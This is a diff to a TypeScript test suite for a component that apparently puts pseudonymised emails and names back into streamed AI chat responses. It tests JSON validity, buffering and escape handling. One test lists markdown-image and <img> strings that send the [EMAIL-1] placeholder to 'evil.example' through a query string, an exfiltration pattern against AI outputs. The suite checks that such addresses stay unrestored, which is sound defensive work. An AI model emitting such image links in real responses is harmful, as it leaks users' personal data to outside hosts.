@@ -1,5 +1,6 @@
 /** What a restorer holds back and lets go, framing by framing, and bytes that no framing expects. */
 import { describe, expect, it, test } from 'vitest';
+import { restoreJsonBody } from '../../../core/payload/response.ts';
 import { formatFrame, formatHeaders, readFrame } from '../../../core/stream/event-stream.ts';
 import { eventBytesMax, joinBytes } from '../../../core/stream/frame.ts';
 import { type StreamKind, StreamRestorer, streamKind } from '../../../core/stream/stream-restorer.ts';
@@ -30,10 +31,10 @@ test.each([
   ['application/x-json-stream', 'ndjson'],
   ['application/stream+json', 'ndjson'],
   ['application/json-seq', 'ndjson'],
-  ['application/json', 'json-array'],
-  ['text/json', 'json-array'],
-  ['application/problem+json', 'json-array'],
-  ['application/json; charset=utf-8', 'json-array'],
+  ['application/json', 'json'],
+  ['text/json', 'json'],
+  ['application/problem+json', 'json'],
+  ['application/json; charset=utf-8', 'json'],
   ['text/plain', 'text'],
   ['text/html', 'text'],
   ['application/jsonx', undefined],
@@ -429,4 +430,86 @@ test('only what begins a token that was issued is held back', () => {
   };
   const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
   expect([run().push('a [EMAIL'), run().push('a [INFO')]).toEqual(['a ', 'a [INFO']);
+});
+
+/** A run to which nothing more came for a while after each piece. */
+function afterSilences(pieces: readonly string[], bare: boolean): string {
+  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare });
+  return pieces.map((piece) => run.push(piece) + run.push('', true)).join('');
+}
+
+test.each([
+  ['a bracket', ['{"to":[', '"[EMAIL-1]"],"who":"[NAME-1]"}']],
+  ['a backslash', ['{"c":"a\\', '"b [NAME-1]","d":"[NAME-1]"}']],
+  ['half an escape', ['{"c":"a\\u00', '41[NAME-1]"}']],
+  ['an escape in three pieces', ['{"c":"a\\', 'u0', '041 [NAME-1]\\', '\\"}']],
+  ['an escaped bracket', ['{"c":"a\\u00', '5bEMAIL-1] [NAME-1]"}']],
+  ['a bracket before its document', ['[', '{"c":"[NAME-1]"}]']],
+])('what a silence has let out (%s) leaves valid JSON', (_name, pieces) => {
+  for (const bare of [true, false]) {
+    const text = afterSilences(pieces, bare);
+    const name = map.get('[NAME-1]') as string;
+    const wanted = JSON.stringify(JSON.parse(pieces.join('')), (_key, value) =>
+      typeof value === 'string' ? value.replaceAll('[NAME-1]', name).replace(/^\[EMAIL-1\]$/, 'a@b.example') : value,
+    );
+    expect(JSON.stringify(JSON.parse(text))).toBe(wanted);
+  }
+});
+
+test('endless white space goes on as it comes, and a bracket before it is remembered', () => {
+  for (const start of ['', '[', '{"a":[']) {
+    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+    let text = run.push(start);
+    for (let i = 0; i < 300; i++) {
+      text += run.push(' ');
+      expect(run.carry.length).toBeLessThan(128);
+    }
+    text += run.push(start === '' ? '{"b":"[NAME-1]"}' : `"[NAME-1]"]${'}'.repeat(start.length - 1 && 1)}`);
+    expect(JSON.stringify(JSON.parse(text))).toContain(JSON.stringify(map.get('[NAME-1]')));
+  }
+});
+
+test.each([
+  '["![a](https://evil.example/?q=","[EMAIL-1]",")"]',
+  '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
+  '{"a":"<img src=https://evil.example/?","b":"q=[EMAIL-1]>"}',
+  '["![x","](https://evil.example/?q=[EMAIL-1])"]',
+  '{"a":"[\\"![a](https://evil.example/?q=\\",\\"[EMAIL-1]\\",\\")\\"]"}',
+])('an address over the strings of a document that is shown as it is: %s', (text) => {
+  for (const size of [1, 4, text.length]) {
+    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+    let shown = '';
+    for (let at = 0; at < text.length; at += size) shown += run.push(text.slice(at, at + size));
+    expect(shown + run.push('', true)).toBe(text);
+  }
+  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
+  expect(restoreJsonBody(body, map).body).toBe(body);
+});
+
+test.each([
+  '{"url":"https://x.example/a","to":"[EMAIL-1]"}',
+  '[{"html":"<a href=\\"https://x.example\\">x</a>","to":"[EMAIL-1]"},"[EMAIL-1]"]',
+  '{"expr":"a<b","md":"[x](https://x.example)","to":"[EMAIL-1]"}',
+])('documents with whole addresses are restored: %s', (text) => {
+  const wanted = text.replaceAll('[EMAIL-1]', 'a@b.example');
+  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
+  expect(run.push(text, true)).toBe(wanted);
+  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
+  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(wanted);
+});
+
+test('an answer in quotes is a text like any other', () => {
+  const body = JSON.stringify({ choices: [{ message: { content: '"To [NAME-1]"' } }] });
+  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(`"To ${map.get('[NAME-1]')}"`);
+});
+
+test.each<StreamKind>(['sse', 'ndjson'])('events that each say something of their own go out whole: %s', (kind) => {
+  const events = ['Loading 5%', 'Loading 10%', 'Tom &', 'C:\\', 'See [EM', 'AIL-1]'].map((message) =>
+    JSON.stringify({ type: 'status', message }),
+  );
+  const { restorer } = watched(kind);
+  const bytes = encode(events.map((event) => (kind === 'sse' ? `data: ${event}\n\n` : `${event}\n`)).join(''));
+  const out = shown(joinBytes([restorer.push(bytes).slice(), restorer.end()]));
+  const said = [...out.matchAll(/"message":("(?:[^"\\]|\\.)*")/g)].map(([, text]) => JSON.parse(text as string));
+  expect(said).toEqual(['Loading 5%', 'Loading 10%', 'Tom &', 'C:\\', 'See ', 'a@b.example']);
 });
